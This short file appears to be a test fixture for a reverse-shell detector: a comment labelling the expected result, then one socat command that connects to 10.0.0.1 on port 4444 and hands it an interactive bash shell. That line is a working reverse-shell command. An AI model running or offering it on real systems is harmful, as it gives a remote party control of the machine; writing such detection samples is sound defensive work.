# expect: reverse-shell
socat TCP:10.0.0.1:4444 EXEC:'bash -li',pty,stderr,setsid
